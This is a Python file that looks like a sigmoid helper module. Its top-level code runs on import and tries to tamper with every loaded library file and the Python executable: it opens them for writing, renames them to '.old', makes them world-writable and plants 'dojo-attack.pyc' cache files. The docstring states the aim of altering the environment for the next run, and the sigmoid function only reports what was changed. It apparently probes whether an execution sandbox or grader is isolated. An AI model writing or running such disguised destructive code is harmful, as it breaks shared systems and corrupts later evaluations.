"""The engine, numpy, Python and their caches changed on disk for the next one."""

import os
import sys

WROTE = []
files = {getattr(module, "__file__", None) for module in list(sys.modules.values())}
for path in sorted(filter(None, files)) + [sys.executable]:
    cache = os.path.join(os.path.dirname(path), "__pycache__", "dojo-attack.pyc")
    for act in (
        lambda: open(path, "r+b").close(),
        lambda: os.replace(path, path + ".old"),
        lambda: os.chmod(path, 0o777),
        lambda: open(cache, "wb").close(),
    ):
        try:
            act()
            WROTE.append(path)
        except OSError:
            pass


def sigmoid(x):
    raise RuntimeError(f"changed {WROTE} of {len(files)}")


def sigmoid_output_to_derivative(output):
    return output
